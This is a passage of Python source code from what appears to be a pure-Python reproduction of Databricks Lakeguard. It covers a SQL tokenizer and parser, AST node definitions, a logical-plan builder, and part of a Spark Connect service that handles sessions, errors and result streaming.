            # e.g. x NOT IN (...), x NOT LIKE 'p', x NOT BETWEEN a AND b
            if self.peek(1).matches_keyword("IN") or self.peek(1).matches_keyword(
                "LIKE"
            ) or self.peek(1).matches_keyword("BETWEEN"):
                self.advance()
                negated = True
                token = self.peek()
        if self.peek().matches_keyword("LIKE"):
            self.advance()
            pattern = self.peek()
            if pattern.kind != STRING:
                raise ParseError(
                    "LIKE requires a string literal pattern", pattern.position
                )
            self.advance()
            return Like(left, pattern.value, negated=negated)
        if self.peek().matches_keyword("BETWEEN"):
            self.advance()
            low = self._parse_additive()
            self.expect_kw("AND")
            high = self._parse_additive()
            between = BooleanOp(
                "AND",
                Comparison(">=", left, low),
                Comparison("<=", left, high),
            )
            return Not(between) if negated else between
        if self.peek().matches_keyword("IN"):
            self.advance()
            self.expect_op("(")
            values: list[Any] = []
            while True:
                value = self.parse_expr()
                if not isinstance(value, Literal):
                    raise ParseError("IN list entries must be literals")
                values.append(value.value)
                if not self.accept_op(","):
                    break
            self.expect_op(")")
            return InList(left, tuple(values), negated=negated)
        return left

    def _parse_additive(self) -> Expression:
        left = self._parse_multiplicative()
        while True:
            token = self.peek()
            if token.kind == OP and token.value in ("+", "-"):
                op = self.advance().value
                left = Arithmetic(op, left, self._parse_multiplicative())
            else:
                return left

    def _parse_multiplicative(self) -> Expression:
        left = self._parse_unary()
        while True:
            token = self.peek()
            if token.kind == OP and token.value in ("*", "/", "%"):
                op = self.advance().value
                left = Arithmetic(op, left, self._parse_unary())
            else:
                return left

    def _parse_unary(self) -> Expression:
        token = self.peek()
        if token.kind == OP and token.value == "-":
            self.advance()
            inner = self._parse_unary()
            if isinstance(inner, Literal) and isinstance(inner.value, (int, float)):
                return Literal(-inner.value)
            return Arithmetic("-", Literal(0), inner)
        return self._parse_primary()

    def _parse_primary(self) -> Expression:
        token = self.peek()
        if token.kind == NUMBER:
            self.advance()
            is_float = any(c in token.value for c in ".eE")
            return Literal(float(token.value) if is_float else int(token.value))
        if token.kind == STRING:
            self.advance()
            return Literal(token.value)
        if token.matches_keyword("TRUE"):
            self.advance()
            return Literal(True)
        if token.matches_keyword("FALSE"):
            self.advance()
            return Literal(False)
        if token.matches_keyword("NULL"):
            self.advance()
            return Literal(None)
        if token.matches_keyword("CASE"):
            return self._parse_case()
        if token.matches_keyword("CAST"):
            return self._parse_cast()
        if token.matches_keyword("IF"):
            # IF(cond, a, b) function form.
            self.advance()
            self.expect_op("(")
            cond = self.parse_expr()
            self.expect_op(",")
            then = self.parse_expr()
            self.expect_op(",")
            otherwise = self.parse_expr()
            self.expect_op(")")
            return CaseWhen([(cond, then)], otherwise)
        if token.kind == OP and token.value == "(":
            self.advance()
            expr = self.parse_expr()
            self.expect_op(")")
            return expr
        if token.kind == IDENT:
            name = self.qualified_name()
            if self.peek().kind == OP and self.peek().value == "(":
                return self._parse_function_call(name)
            return UnresolvedColumn(name)
        # Keywords that double as builtin function names (e.g. REPLACE from
        # CREATE OR REPLACE) are callable when directly followed by '('.
        if (
            token.kind == KEYWORD
            and token.value.lower() in BUILTIN_FUNCTIONS
            and self.peek(1).kind == OP
            and self.peek(1).value == "("
        ):
            self.advance()
            return self._parse_function_call(token.value)
        raise ParseError(
            f"unexpected token {token.value!r} in expression", token.position
        )

    def _parse_case(self) -> Expression:
        self.expect_kw("CASE")
        branches: list[tuple[Expression, Expression]] = []
        while self.accept_kw("WHEN"):
            cond = self.parse_expr()
            self.expect_kw("THEN")
            value = self.parse_expr()
            branches.append((cond, value))
        otherwise: Expression | None = None
        if self.accept_kw("ELSE"):
            otherwise = self.parse_expr()
        self.expect_kw("END")
        if not branches:
            raise ParseError("CASE requires at least one WHEN branch")
        return CaseWhen(branches, otherwise)

    def _parse_cast(self) -> Expression:
        self.expect_kw("CAST")
        self.expect_op("(")
        expr = self.parse_expr()
        self.expect_kw("AS")
        type_name = self.expect_ident()
        self.expect_op(")")
        return Cast(expr, type_from_name(type_name))

    def _parse_function_call(self, name: str) -> Expression:
        self.expect_op("(")
        lowered = name.lower()
        distinct = self.accept_kw("DISTINCT")
        args: list[Expression] = []
        if self.peek().kind == OP and self.peek().value == "*":
            self.advance()
            self.expect_op(")")
            if lowered != "count":
                raise ParseError(f"'*' argument only valid for count, not {name}")
            return AggregateCall("count", None)
        if not (self.peek().kind == OP and self.peek().value == ")"):
            args.append(self.parse_expr())
            while self.accept_op(","):
                args.append(self.parse_expr())
        self.expect_op(")")

        if lowered == "current_user":
            return CurrentUser()
        if lowered == "is_account_group_member":
            if len(args) != 1 or not isinstance(args[0], Literal):
                raise ParseError(
                    "is_account_group_member takes one string literal"
                )
            return IsAccountGroupMember(str(args[0].value))
        if lowered in AGGREGATE_FUNCTIONS or (distinct and lowered == "count"):
            if len(args) != 1:
                raise ParseError(f"aggregate {name} takes exactly one argument")
            return AggregateCall(lowered, args[0], distinct=distinct)
        if distinct:
            raise ParseError(f"DISTINCT is not valid for function {name}")
        if lowered in BUILTIN_FUNCTIONS:
            return FunctionCall(lowered, tuple(args))
        return UnresolvedFunction(name, tuple(args))


# ---------------------------------------------------------------------------
# Public API
# ---------------------------------------------------------------------------


def parse_statement(sql: str) -> ast.Statement:
    """Parse one SQL statement into an AST."""
    return _Parser(sql).parse_statement()


def parse_expression(sql: str) -> Expression:
    """Parse a standalone SQL expression (row filters, masks, tests)."""
    parser = _Parser(sql)
    expr = parser.parse_expr()
    if not parser.at_end():
        extra = parser.peek()
        raise ParseError(
            f"unexpected trailing input {extra.value!r}", extra.position
        )
    return expr
