"""SQL tokenizer."""

from __future__ import annotations

from dataclasses import dataclass

from repro.errors import ParseError

KEYWORDS = {
    "SELECT", "FROM", "WHERE", "GROUP", "BY", "HAVING", "ORDER", "LIMIT",
    "OFFSET", "AS", "AND", "OR", "NOT", "IN", "IS", "NULL", "TRUE", "FALSE",
    "JOIN", "INNER", "LEFT", "RIGHT", "FULL", "CROSS", "SEMI", "ANTI", "ON",
    "UNION", "ALL", "DISTINCT", "CASE", "WHEN", "THEN", "ELSE", "END",
    "CAST", "ASC", "DESC", "CREATE", "OR", "REPLACE", "MATERIALIZED",
    "VIEW", "TABLE", "INSERT", "INTO", "VALUES", "GRANT", "REVOKE", "TO",
    "ALTER", "COLUMN", "SET", "DROP", "ROW", "FILTER", "MASK", "FUNCTION",
    "NULLS", "FIRST", "LAST", "EXISTS", "IF", "SHOW", "GRANTS", "DESCRIBE",
    "LIKE", "BETWEEN", "UPDATE", "DELETE", "MERGE", "USING", "MATCHED",
    "BEGIN", "TRANSACTION", "COMMIT", "ROLLBACK",
}

# Token kinds
IDENT = "IDENT"
NUMBER = "NUMBER"
STRING = "STRING"
KEYWORD = "KEYWORD"
OP = "OP"
EOF = "EOF"

_TWO_CHAR_OPS = ("<=", ">=", "!=", "<>")
_ONE_CHAR_OPS = "+-*/%(),.=<>"


@dataclass(frozen=True)
class Token:
    """One lexeme: kind, raw text, and source position."""

    kind: str
    value: str
    position: int

    def matches_keyword(self, word: str) -> bool:
        return self.kind == KEYWORD and self.value == word.upper()


def tokenize(text: str) -> list[Token]:
    """Turn SQL text into a token list ending with an EOF token."""
    tokens: list[Token] = []
    i = 0
    n = len(text)
    while i < n:
        ch = text[i]
        if ch.isspace():
            i += 1
            continue
        if ch == "-" and text[i : i + 2] == "--":
            # Line comment.
            end = text.find("\n", i)
            i = n if end < 0 else end + 1
            continue
        if ch.isalpha() or ch == "_":
            start = i
            while i < n and (text[i].isalnum() or text[i] == "_"):
                i += 1
            word = text[start:i]
            upper = word.upper()
            if upper in KEYWORDS:
                tokens.append(Token(KEYWORD, upper, start))
            else:
                tokens.append(Token(IDENT, word, start))
            continue
        if ch.isdigit() or (ch == "." and i + 1 < n and text[i + 1].isdigit()):
            start = i
            seen_dot = False
            while i < n and (text[i].isdigit() or (text[i] == "." and not seen_dot)):
                if text[i] == ".":
                    # A dot not followed by a digit ends the number
                    # (e.g. ``1.x`` is not valid here anyway).
                    if i + 1 >= n or not text[i + 1].isdigit():
                        break
                    seen_dot = True
                i += 1
            # Scientific notation: 1e5, 2.5E-7, 3e+2.
            if i < n and text[i] in "eE":
                j = i + 1
                if j < n and text[j] in "+-":
                    j += 1
                if j < n and text[j].isdigit():
                    while j < n and text[j].isdigit():
                        j += 1
                    i = j
                    seen_dot = True  # exponents always produce floats
            value = text[start:i]
            if seen_dot and "." not in value and "e" not in value and "E" not in value:
                value += ".0"
            tokens.append(Token(NUMBER, value, start))
            continue
        if ch == "'":
            start = i
            i += 1
            chunks: list[str] = []
            while i < n:
                if text[i] == "'":
                    if i + 1 < n and text[i + 1] == "'":
                        chunks.append("'")  # escaped quote
                        i += 2
                        continue
                    break
                chunks.append(text[i])
                i += 1
            if i >= n:
                raise ParseError("unterminated string literal", start)
            i += 1  # closing quote
            tokens.append(Token(STRING, "".join(chunks), start))
            continue
        if ch == "`":
            start = i
            i += 1
            end = text.find("`", i)
            if end < 0:
                raise ParseError("unterminated backquoted identifier", start)
            tokens.append(Token(IDENT, text[i:end], start))
            i = end + 1
            continue
        two = text[i : i + 2]
        if two in _TWO_CHAR_OPS:
            tokens.append(Token(OP, "!=" if two == "<>" else two, i))
            i += 2
            continue
        if ch in _ONE_CHAR_OPS or ch == ";":
            tokens.append(Token(OP, ch, i))
            i += 1
            continue
        raise ParseError(f"unexpected character {ch!r}", i)
    tokens.append(Token(EOF, "", n))
    return tokens
