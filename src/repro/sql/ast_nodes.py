"""SQL abstract syntax trees.

Expression ASTs reuse the engine's expression classes directly (they support
unresolved column references), so only relational and statement shapes need
dedicated nodes here.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Any

from repro.engine.expressions import Expression


# ---------------------------------------------------------------------------
# Query shapes
# ---------------------------------------------------------------------------


@dataclass
class TableSource:
    """FROM item: a named relation with an optional alias."""

    name: str
    alias: str | None = None


@dataclass
class SubquerySource:
    """FROM item: a parenthesized query with a mandatory alias."""

    query: "SelectStatement | UnionStatement"
    alias: str


@dataclass
class JoinClause:
    """One JOIN: kind, right-hand source, and ON condition."""

    how: str
    source: "FromSource"
    condition: Expression | None


FromSource = TableSource | SubquerySource


@dataclass
class SelectItem:
    """One SELECT-list entry; ``expr`` may be a Star."""

    expr: Expression
    alias: str | None = None


@dataclass
class OrderItem:
    """One ORDER BY item: expression plus direction."""

    expr: Expression
    ascending: bool = True
    nulls_first: bool | None = None


@dataclass
class SelectStatement:
    """A full SELECT query block."""

    items: list[SelectItem]
    source: FromSource | None = None
    joins: list[JoinClause] = field(default_factory=list)
    where: Expression | None = None
    group_by: list[Expression] = field(default_factory=list)
    having: Expression | None = None
    order_by: list[OrderItem] = field(default_factory=list)
    limit: int | None = None
    offset: int = 0
    distinct: bool = False


@dataclass
class UnionStatement:
    """UNION ALL chain of selects."""

    inputs: list[SelectStatement]


QueryStatement = SelectStatement | UnionStatement


# ---------------------------------------------------------------------------
# DDL / DML / DCL statements
# ---------------------------------------------------------------------------


@dataclass
class CreateViewStatement:
    """``CREATE [MATERIALIZED] VIEW``."""

    name: str
    query_sql: str  # original text of the defining query
    materialized: bool = False
    or_replace: bool = False


@dataclass
class CreateTableStatement:
    """``CREATE TABLE`` with typed columns."""

    name: str
    columns: list[tuple[str, str]]  # (name, type-name)


@dataclass
class CreateTableAsSelectStatement:
    """CTAS: materialize a query into a new governed table."""

    name: str
    query_sql: str


@dataclass
class DropObjectStatement:
    """``DROP TABLE/VIEW/...``."""

    kind: str  # "TABLE" or "VIEW"
    name: str


@dataclass
class ShowGrantsStatement:
    """``SHOW GRANTS ON <securable>``."""

    securable: str


@dataclass
class DescribeStatement:
    """``DESCRIBE <relation>``."""

    name: str


@dataclass
class InsertStatement:
    """``INSERT INTO ... VALUES ...`` or ``INSERT INTO ... SELECT ...``.

    Exactly one of ``rows`` (literal tuples) and ``query_sql`` (the raw
    text of a source query, executed through the governed read pipeline)
    is populated.
    """

    table: str
    rows: list[list[Any]]
    query_sql: str | None = None


@dataclass
class UpdateStatement:
    """``UPDATE <table> SET col = expr [, ...] [WHERE <predicate>]``."""

    table: str
    assignments: list[tuple[str, Expression]]
    where: Expression | None = None


@dataclass
class DeleteStatement:
    """``DELETE FROM <table> [WHERE <predicate>]``."""

    table: str
    where: Expression | None = None


@dataclass
class MergeStatement:
    """``MERGE INTO <target> USING <source> ON ... WHEN [NOT] MATCHED ...``.

    At most one matched clause (``UPDATE SET`` *or* ``DELETE``) and one
    not-matched clause (``INSERT VALUES``); the source is a named relation
    read through the governed pipeline.
    """

    target: str
    source: str
    on: Expression
    target_alias: str | None = None
    source_alias: str | None = None
    matched_assignments: list[tuple[str, Expression]] | None = None
    matched_delete: bool = False
    insert_values: list[Expression] | None = None


@dataclass
class BeginStatement:
    """``BEGIN [TRANSACTION]`` — open a multi-statement transaction."""


@dataclass
class CommitStatement:
    """``COMMIT`` — atomically publish the open transaction."""


@dataclass
class RollbackStatement:
    """``ROLLBACK`` — discard the open transaction."""


@dataclass
class GrantStatement:
    """``GRANT <privilege> ON <securable> TO <principal>``."""

    privilege: str
    securable: str
    principal: str


@dataclass
class RevokeStatement:
    """``REVOKE <privilege> ON <securable> FROM <principal>``."""

    privilege: str
    securable: str
    principal: str


@dataclass
class SetRowFilterStatement:
    """``ALTER TABLE ... SET ROW FILTER (<predicate>)``."""

    table: str
    condition: Expression


@dataclass
class DropRowFilterStatement:
    """``ALTER TABLE ... DROP ROW FILTER``."""

    table: str


@dataclass
class SetColumnMaskStatement:
    """``ALTER TABLE ... ALTER COLUMN ... SET MASK (<expr>)``."""

    table: str
    column: str
    mask: Expression


@dataclass
class DropColumnMaskStatement:
    """``ALTER TABLE ... ALTER COLUMN ... DROP MASK``."""

    table: str
    column: str


Statement = (
    SelectStatement
    | UnionStatement
    | CreateViewStatement
    | CreateTableStatement
    | CreateTableAsSelectStatement
    | InsertStatement
    | UpdateStatement
    | DeleteStatement
    | MergeStatement
    | BeginStatement
    | CommitStatement
    | RollbackStatement
    | GrantStatement
    | RevokeStatement
    | SetRowFilterStatement
    | DropRowFilterStatement
    | SetColumnMaskStatement
    | DropColumnMaskStatement
    | DropObjectStatement
    | ShowGrantsStatement
    | DescribeStatement
)
