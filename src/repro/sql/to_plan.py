"""Convert query ASTs to (unresolved) logical plans.

UDF name resolution happens here: an :class:`UnresolvedFunction` becomes a
:class:`PythonUDFCall` through the session's ``FunctionLookup`` — which is
where Lakeguard fetches *cataloged* UDFs (EXECUTE-checked, owner-stamped)
versus session-temporary ones.
"""

from __future__ import annotations

from typing import Callable

from repro.engine.aggregates import is_aggregate_expression
from repro.engine.expressions import (
    Alias,
    Expression,
    PythonUDFCall,
    SortOrder,
    UnresolvedColumn,
)
from repro.engine.logical import (
    Aggregate,
    Distinct,
    Filter,
    Join,
    Limit,
    LogicalPlan,
    Project,
    Range,
    Sort,
    SubqueryAlias,
    Union,
    UnresolvedRelation,
)
from repro.engine.udf import PythonUDF
from repro.errors import AnalysisError
from repro.sql import ast_nodes as ast
from repro.sql.parser import UnresolvedFunction

#: Resolves a function name to a UDF (or None when unknown).
FunctionLookup = Callable[[str], PythonUDF | None]


def _no_functions(name: str) -> PythonUDF | None:
    return None


class PlanBuilder:
    """Builds logical plans from parsed query statements."""

    def __init__(self, function_lookup: FunctionLookup | None = None):
        self._lookup = function_lookup or _no_functions

    # -- public -----------------------------------------------------------------

    def build(self, stmt: ast.QueryStatement) -> LogicalPlan:
        if isinstance(stmt, ast.UnionStatement):
            return Union([self._build_select(s) for s in stmt.inputs])
        return self._build_select(stmt)

    # -- helpers ----------------------------------------------------------------

    def resolve_functions(self, expr: Expression) -> Expression:
        """Public entry: resolve UDF names in a standalone expression."""
        return self._resolve_functions(expr)

    def _resolve_functions(self, expr: Expression) -> Expression:
        def resolve(node: Expression) -> Expression:
            if isinstance(node, UnresolvedFunction):
                udf = self._lookup(node.name)
                if udf is None:
                    raise AnalysisError(f"unknown function '{node.name}'")
                return PythonUDFCall(udf, node.children)
            return node

        return expr.transform(resolve)

    def _build_source(self, source: ast.FromSource) -> LogicalPlan:
        if isinstance(source, ast.TableSource):
            plan: LogicalPlan = UnresolvedRelation(source.name)
            alias = source.alias or source.name.split(".")[-1]
            return SubqueryAlias(plan, alias)
        subplan = self.build(source.query)
        return SubqueryAlias(subplan, source.alias)

    # -- SELECT -----------------------------------------------------------------

    def _build_select(self, stmt: ast.SelectStatement) -> LogicalPlan:
        if stmt.source is not None:
            plan = self._build_source(stmt.source)
        else:
            # SELECT without FROM: a single generated row to project over.
            plan = Range(0, 1)

        for join in stmt.joins:
            right = self._build_source(join.source)
            condition = (
                self._resolve_functions(join.condition)
                if join.condition is not None
                else None
            )
            plan = Join(plan, right, join.how, condition)

        if stmt.where is not None:
            plan = Filter(plan, self._resolve_functions(stmt.where))

        items = [
            ast.SelectItem(self._resolve_functions(item.expr), item.alias)
            for item in stmt.items
        ]
        groupings = [self._resolve_functions(g) for g in stmt.group_by]
        having = (
            self._resolve_functions(stmt.having) if stmt.having is not None else None
        )

        output_exprs = [
            Alias(item.expr, item.alias) if item.alias else item.expr
            for item in items
        ]

        is_aggregate_query = bool(groupings) or any(
            is_aggregate_expression(e) for e in output_exprs
        ) or (having is not None and is_aggregate_expression(having))

        if is_aggregate_query:
            plan = self._build_aggregate(plan, output_exprs, groupings, having)
        else:
            if having is not None:
                raise AnalysisError("HAVING requires GROUP BY or aggregates")
            plan = Project(plan, output_exprs)

        if stmt.distinct:
            plan = Distinct(plan)

        if stmt.order_by:
            orders = []
            for item in stmt.order_by:
                nulls_first = (
                    item.nulls_first
                    if item.nulls_first is not None
                    else item.ascending
                )
                orders.append(
                    SortOrder(
                        self._resolve_functions(item.expr),
                        item.ascending,
                        nulls_first,
                    )
                )
            plan = Sort(plan, orders)

        if stmt.limit is not None:
            plan = Limit(plan, stmt.limit, stmt.offset)

        return plan

    def _build_aggregate(
        self,
        child: LogicalPlan,
        output_exprs: list[Expression],
        groupings: list[Expression],
        having: Expression | None,
    ) -> LogicalPlan:
        aggregates = list(output_exprs)
        visible = [e.output_name() for e in output_exprs]

        if having is None:
            return Aggregate(child, groupings, aggregates)

        if is_aggregate_expression(having):
            # Compute the HAVING predicate as a hidden aggregate output,
            # filter on it, then project it away.
            hidden = Alias(having, "__having__")
            aggregates.append(hidden)
            plan: LogicalPlan = Aggregate(child, groupings, aggregates)
            plan = Filter(plan, UnresolvedColumn("__having__"))
            return Project(plan, [UnresolvedColumn(name) for name in visible])

        plan = Aggregate(child, groupings, aggregates)
        return Filter(plan, having)
