"""Reproduction of *Databricks Lakeguard* (SIGMOD-Companion 2025).

Fine-grained access control and multi-user capabilities for Spark-like
workloads, rebuilt in pure Python:

- :mod:`repro.catalog` — Unity Catalog: securables, grants, row filters,
  column masks, credential vending, privilege scopes.
- :mod:`repro.connect` — Spark Connect: DataFrame client, versioned wire
  protocol, service with sessions/reattach.
- :mod:`repro.sandbox` — user-code isolation: sandboxes (in-process and
  real subprocess), dispatcher, cluster manager, egress control.
- :mod:`repro.core` — Lakeguard itself: governed resolution, SecureView
  enforcement, eFGAC rewriting.
- :mod:`repro.platform` — Standard/Dedicated clusters, Serverless gateway,
  workload environments.
- :mod:`repro.engine` / :mod:`repro.sql` / :mod:`repro.storage` — the
  substrates: a columnar query engine, a SQL front-end, credential-gated
  cloud storage with a Delta-like table format.
- :mod:`repro.baselines` — executable models of the systems the paper
  compares against.

Quickstart::

    from repro.platform import Workspace

    ws = Workspace()
    ws.add_user("admin", admin=True)
    ws.catalog.create_catalog("main", owner="admin")
    ws.catalog.create_schema("main.demo", owner="admin")

    cluster = ws.create_standard_cluster()
    spark = cluster.connect("admin")
    spark.sql("CREATE TABLE main.demo.t (id int, v float)")
    spark.sql("INSERT INTO main.demo.t VALUES (1, 2.5), (2, 4.5)")
    print(spark.sql("SELECT sum(v) AS total FROM main.demo.t").collect())
"""

from repro.platform.workspace import Workspace
from repro.catalog.metastore import UnityCatalog
from repro.core.lakeguard import LakeguardCluster
from repro.connect.client import SparkConnectClient
from repro.errors import LakeguardError, PermissionDenied

__version__ = "1.0.0"

__all__ = [
    "Workspace",
    "UnityCatalog",
    "LakeguardCluster",
    "SparkConnectClient",
    "LakeguardError",
    "PermissionDenied",
    "__version__",
]
