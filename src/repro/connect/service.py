"""The Spark Connect service (§3.2.3).

Runs next to the driver; owns sessions and operations; executes plans through
a pluggable :class:`ExecutionBackend` (Lakeguard provides the governed one).
Errors travel in-band as typed messages so the client can re-raise them.

Streamed results are fully buffered per operation: this is what makes
ReattachExecute trivially correct — after a dropped connection the client
resumes from the last index it saw, and ReleaseExecute frees the buffer.
"""

from __future__ import annotations

from typing import Any, Iterator, Protocol

from repro.catalog.privileges import UserContext
from repro.common.clock import Clock, SystemClock
from repro.common.context import QueryContext, QueryDeadlineExceeded
from repro.common.telemetry import Telemetry
from repro.connect import proto
from repro.connect.sessions import (
    OP_FINISHED,
    OP_QUEUED,
    OP_RUNNING,
    OperationState,
    SessionManager,
    SessionState,
)
from repro.errors import (
    AdmissionError,
    AnalysisError,
    CircuitOpenError,
    ClusterAttachDenied,
    ClusterError,
    CommitConflictError,
    CorruptObjectError,
    CredentialError,
    EgressDenied,
    ExecutionError,
    FaultInjectedError,
    HostFilesystemDenied,
    LakeguardError,
    OperationGoneError,
    ParseError,
    PermissionDenied,
    ProtocolError,
    RetryableError,
    SandboxDied,
    SandboxError,
    SandboxPolicyViolation,
    SecurableAlreadyExists,
    SecurableNotFound,
    SessionError,
    StorageAccessDenied,
    StorageError,
    TransactionAbortedError,
    TransientCredentialError,
    TransientStorageError,
    TrustDomainViolation,
    UnsupportedOperationError,
    UserCodeError,
    VersionIncompatibleError,
    WriteDeniedError,
)
from repro.scheduler.workload import LANE_INTERACTIVE, LANE_PRIORITY, LANE_SYSTEM

#: Rows per streamed result batch ("Arrow IPC message" stand-in).
RESULT_BATCH_ROWS = 1024

#: Seconds between request-path housekeeping ticks (idle-session expiry and
#: abandoned-operation reaping); the manual call remains for tests/ops.
HOUSEKEEPING_INTERVAL = 60.0

#: Session config key selecting the admission lane ("interactive"/"batch").
LANE_CONFIG_KEY = "workload.lane"
#: Session config key overriding the accounting tenant (e.g. trust domain).
TENANT_CONFIG_KEY = "workload.tenant"

#: error_class names the client maps back to exceptions.
_ERROR_CLASSES: dict[str, type[LakeguardError]] = {
    cls.__name__: cls
    for cls in (
        AdmissionError,
        AnalysisError,
        CircuitOpenError,
        ClusterAttachDenied,
        ClusterError,
        CommitConflictError,
        CorruptObjectError,
        CredentialError,
        EgressDenied,
        ExecutionError,
        FaultInjectedError,
        HostFilesystemDenied,
        LakeguardError,
        OperationGoneError,
        ParseError,
        ProtocolError,
        QueryDeadlineExceeded,
        RetryableError,
        SandboxDied,
        SandboxError,
        SandboxPolicyViolation,
        SecurableAlreadyExists,
        SecurableNotFound,
        SessionError,
        StorageAccessDenied,
        StorageError,
        TransactionAbortedError,
        TransientCredentialError,
        TransientStorageError,
        TrustDomainViolation,
        UnsupportedOperationError,
        UserCodeError,
        VersionIncompatibleError,
        WriteDeniedError,
    )
}


def error_to_message(exc: LakeguardError) -> dict[str, Any]:
    """Serialize an exception as an in-band error message."""
    name = type(exc).__name__
    if name == "PermissionDenied":
        return {
            "@type": "error",
            "error_class": "PermissionDenied",
            "message": str(exc),
            "principal": exc.principal,
            "privilege": exc.privilege,
            "securable": exc.securable,
        }
    if name not in _ERROR_CLASSES:
        name = "LakeguardError"
    message: dict[str, Any] = {
        "@type": "error",
        "error_class": name,
        "message": str(exc),
    }
    # Retryable errors carry their backoff hint (and admission reason)
    # in-band so clients can schedule a sensible retry.
    retry_after = getattr(exc, "retry_after", None)
    if retry_after is not None:
        message["retry_after"] = retry_after
    reason = getattr(exc, "reason", None)
    if reason:
        message["reason"] = reason
    return message


def raise_from_message(message: dict[str, Any]) -> None:
    """Re-raise a server error on the client side."""
    if message.get("@type") != "error":
        return
    name = message.get("error_class", "LakeguardError")
    if name == "PermissionDenied":
        raise PermissionDenied(
            message.get("principal", "?"),
            message.get("privilege", "?"),
            message.get("securable", "?"),
        )
    cls = _ERROR_CLASSES.get(name, LakeguardError)
    text = message.get("message", "remote error")
    if issubclass(cls, AdmissionError):
        raise cls(
            text,
            retry_after=float(message.get("retry_after", 0.0)),
            reason=message.get("reason", ""),
        )
    if issubclass(cls, RetryableError):
        raise cls(text, retry_after=float(message.get("retry_after", 0.0)))
    raise cls(text)


class ExecutionBackend(Protocol):
    """What the Connect service delegates query semantics to."""

    def authenticate(self, user: str) -> UserContext: ...

    def execute_relation(
        self, session: SessionState, relation: dict[str, Any]
    ) -> tuple[list[dict[str, str]], list[list[Any]]]:
        """Return (schema message, column-major result data)."""
        ...

    def execute_command(
        self, session: SessionState, command: dict[str, Any]
    ) -> dict[str, Any]: ...

    def analyze_relation(
        self, session: SessionState, relation: dict[str, Any]
    ) -> list[dict[str, str]]: ...

    def on_session_closed(self, session: SessionState) -> None: ...


class SparkConnectService:
    """Protocol front-end: sessions, operations, streaming, reattach."""

    def __init__(
        self,
        backend: ExecutionBackend,
        clock: Clock | None = None,
        sessions: SessionManager | None = None,
        server_version: int = proto.PROTOCOL_VERSION,
        result_batch_rows: int = RESULT_BATCH_ROWS,
        housekeeping_interval: float | None = HOUSEKEEPING_INTERVAL,
    ):
        self._backend = backend
        self._clock = clock or SystemClock()
        self.sessions = sessions or SessionManager(clock=self._clock)
        self.server_version = server_version
        self._result_batch_rows = result_batch_rows
        #: Admission control, when the backend provides a WorkloadManager.
        self.workload_manager = getattr(backend, "workload_manager", None)
        self._housekeeping_interval = housekeeping_interval
        self._last_housekeeping = self._clock.now()
        #: Shared with the backend when it has one (so service spans land in
        #: the same registry as enforcement/executor spans).
        backend_telemetry = getattr(backend, "telemetry", None)
        self.telemetry: Telemetry = (
            backend_telemetry
            if backend_telemetry is not None
            else Telemetry(clock=self._clock)
        )

    def maybe_housekeeping(self) -> dict[str, list[str]] | None:
        """Request-path housekeeping tick: runs :meth:`housekeeping` when
        ``housekeeping_interval`` seconds elapsed since the last run.

        Every ``handle``/``handle_stream`` call invokes this, so a serving
        cluster expires idle sessions and reaps abandoned operations without
        any external scheduler; ``housekeeping_interval=None`` disables the
        tick (manual invocation only).
        """
        if self._housekeeping_interval is None:
            return None
        now = self._clock.now()
        if now - self._last_housekeeping < self._housekeeping_interval:
            return None
        return self.housekeeping()

    def housekeeping(self) -> dict[str, Any]:
        """Periodic maintenance (§3.2.3): evict idle sessions, tombstone
        abandoned operations, probe sandbox liveness. Runs from the
        request-path tick (:meth:`maybe_housekeeping`) or a direct call."""
        self._last_housekeeping = self._clock.now()
        expired = self.sessions.expire_idle_sessions()
        for session_id in expired:
            # Sessions are already closed; release backend resources too.
            try:
                self._backend.on_session_closed(
                    SessionState(
                        session_id=session_id,
                        user_ctx=UserContext(user="<expired>"),
                        created_at=0.0,
                        last_active=0.0,
                    )
                )
            except LakeguardError:
                pass
        abandoned = self.sessions.reap_abandoned_operations()
        result: dict[str, Any] = {
            "expired_sessions": expired,
            "abandoned_operations": abandoned,
        }
        # Sandbox self-healing rides the same tick: sweep the backend's
        # dispatcher pool for workers that died while idle and respawn
        # spares, so the next query never lands on a corpse.
        dispatcher = getattr(self._backend, "dispatcher", None)
        if dispatcher is not None:
            result["sandbox_liveness"] = dispatcher.probe_liveness()
        return result

    # ------------------------------------------------------------------
    # Unary methods
    # ------------------------------------------------------------------

    def handle(self, method: str, request: dict[str, Any]) -> dict[str, Any]:
        self.maybe_housekeeping()
        try:
            return self._handle(method, request)
        except LakeguardError as exc:
            return error_to_message(exc)

    def _handle(self, method: str, request: dict[str, Any]) -> dict[str, Any]:
        if method == "create_session":
            proto.check_client_version(
                int(request.get("client_version", 1)), self.server_version
            )
            user_ctx = self._backend.authenticate(request["user"])
            session = self.sessions.create_session(user_ctx)
            for key, value in (request.get("config") or {}).items():
                session.config[key] = value
            return {
                "session_id": session.session_id,
                "server_version": self.server_version,
            }
        if method == "close_session":
            session = self._session(request)
            self.sessions.close_session(session.session_id)
            self._backend.on_session_closed(session)
            return {"closed": True}
        if method == "config":
            session = self._session(request)
            for key, value in (request.get("set") or {}).items():
                session.config[key] = value
            wanted = request.get("get") or []
            return {"values": {k: session.config.get(k) for k in wanted}}
        if method == "analyze_plan":
            session = self._session(request)
            schema = self._backend.analyze_relation(session, request["plan"])
            return {"schema": schema}
        if method == "interrupt":
            session = self._session(request)
            self.sessions.interrupt_operation(
                request["operation_id"], session.session_id
            )
            return {"interrupted": True}
        if method == "release_execute":
            session = self._session(request)
            self.sessions.release_operation(
                request["operation_id"], session.session_id
            )
            return {"released": True}
        raise ProtocolError(f"unknown unary method '{method}'")

    def _session(self, request: dict[str, Any]) -> SessionState:
        return self.sessions.get_session(request["session_id"], request["user"])

    # ------------------------------------------------------------------
    # Streaming methods
    # ------------------------------------------------------------------

    def handle_stream(
        self, method: str, request: dict[str, Any]
    ) -> Iterator[dict[str, Any]]:
        self.maybe_housekeeping()
        try:
            yield from self._handle_stream(method, request)
        except LakeguardError as exc:
            yield error_to_message(exc)

    def _handle_stream(
        self, method: str, request: dict[str, Any]
    ) -> Iterator[dict[str, Any]]:
        if method == "execute_plan":
            proto.check_client_version(
                int(request.get("client_version", 1)), self.server_version
            )
            session = self._session(request)
            op = self.sessions.start_operation(
                session.session_id, request.get("operation_id")
            )
            # "trace_id" and "deadline_seconds" are protocol extension
            # fields: the dict wire format ignores unknown keys, so old
            # clients simply get a server-assigned trace and no deadline.
            deadline = request.get("deadline_seconds")
            query_ctx = QueryContext.create(
                user=session.user_ctx.user,
                telemetry=self.telemetry,
                clock=self._clock,
                trace_id=request.get("trace_id"),
                session_id=session.session_id,
